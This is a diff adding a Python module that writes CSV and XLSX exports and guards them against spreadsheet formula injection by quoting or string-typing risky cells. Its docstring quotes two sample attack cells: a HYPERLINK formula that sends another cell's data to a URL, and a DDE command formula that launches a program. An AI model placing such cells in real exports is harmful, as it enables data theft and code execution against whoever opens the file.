@@ -1,0 +1,71 @@
+"""The one writer of CSV and XLSX files that people open in a spreadsheet program.
+
+Answers, questions, units and theme names come from outside, so a cell such as
+`=HYPERLINK("http://…?x="&A1, "Klicka")` or `=cmd|' /C calc'!A0` must never become a live
+formula (CSV/formula injection). Every CSV and XLSX the project writes goes through here:
+
+- CSV: a text cell whose first non-whitespace character is one of `= + - @`, or that starts
+  with a tab or carriage return, gets a leading single quote (OWASP's rule), so Excel and
+  LibreOffice show it as text. Numbers stay numbers.
+- XLSX: every text cell is written as an inline string (data type "s"), so no cell is ever a
+  formula and the text is kept exactly; characters XML cannot hold are dropped.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+from typing import Any
+
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+# Characters that make a spreadsheet program read a cell as a formula (or DDE command).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise_csv_cell(value: Any) -> Any:
+    """A text cell that a spreadsheet would run as a formula gets a leading `'`."""
+    if not isinstance(value, str) or not value:
+        return value
+    if value.startswith(FORMULA_TRIGGERS) or value.lstrip().startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def csv_text(columns: Sequence[str], rows: Iterable[Sequence[Any]], *, delimiter: str = ";",
+             bom: bool = True) -> str:
+    """The CSV document (with a BOM by default, so Excel reads UTF-8), every cell neutralised."""
+    buf = io.StringIO()
+    writer = csv.writer(buf, delimiter=delimiter)
+    writer.writerow([neutralise_csv_cell(c) for c in columns])
+    for row in rows:
+        writer.writerow([neutralise_csv_cell(c) for c in row])
+    return ("\ufeff" if bom else "") + buf.getvalue()
+
+
+def xlsx_bytes(columns: Sequence[str], rows: Iterable[Sequence[Any]], *, sheet: str = "svar") -> bytes:
+    """An XLSX workbook with one sheet, built in memory; text cells are always strings."""
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+
+    wb = Workbook(write_only=True)
+    ws = wb.create_sheet(sheet)
+
+    def cells(values: Sequence[Any]) -> list[Any]:
+        out = []
+        for value in values:
+            if isinstance(value, str):
+                cell = WriteOnlyCell(ws, value=ILLEGAL_CHARACTERS_RE.sub("", value))
+                cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
+                out.append(cell)
+            else:
+                out.append(value)
+        return out
+
+    ws.append(cells(columns))
+    for row in rows:
+        ws.append(cells(row))
+    out = io.BytesIO()  # in memory: nothing is written to a temp file
+    wb.save(out)
+    return out.getvalue()
